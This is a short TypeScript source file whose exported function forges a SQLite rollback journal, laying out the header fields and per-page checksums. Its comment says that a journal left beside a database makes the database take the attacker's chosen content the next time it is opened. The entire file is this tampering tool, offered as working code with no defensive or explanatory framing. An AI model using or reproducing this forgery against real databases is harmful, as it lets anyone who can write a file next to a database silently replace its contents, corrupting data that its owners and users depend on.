const PAGE_BYTES = 4_096;
const SECTOR_BYTES = 512;
const MAGIC = Buffer.from("d9d505f920a163d7", "hex");
const NONCE = 7;

/**
 * A rollback journal, as the file format of SQLite describes it, that makes any database the given one when it is
 * opened next: a user who can leave it beside a database decides its content.
 * @param database bytes of a database with pages of 4096 bytes
 */
export function forgedJournal(database: Buffer): Buffer {
  const pages = database.length / PAGE_BYTES;
  const header = Buffer.alloc(SECTOR_BYTES);
  MAGIC.copy(header);
  for (const [index, value] of [pages, NONCE, pages, SECTOR_BYTES, PAGE_BYTES].entries()) {
    header.writeUInt32BE(value, MAGIC.length + 4 * index);
  }
  const records = Array.from({ length: pages }, (_, index) => {
    const page = database.subarray(index * PAGE_BYTES, (index + 1) * PAGE_BYTES);
    const [number, checksum] = [Buffer.alloc(4), Buffer.alloc(4)];
    number.writeUInt32BE(index + 1);
    checksum.writeUInt32BE(checksumOf(page));
    return Buffer.concat([number, page, checksum]);
  });
  return Buffer.concat([header, ...records]);
}

function checksumOf(page: Buffer): number {
  let sum = NONCE;
  for (let at = PAGE_BYTES - 200; at > 0; at -= 200) sum = (sum + (page[at] ?? 0)) >>> 0;
  return sum;
}
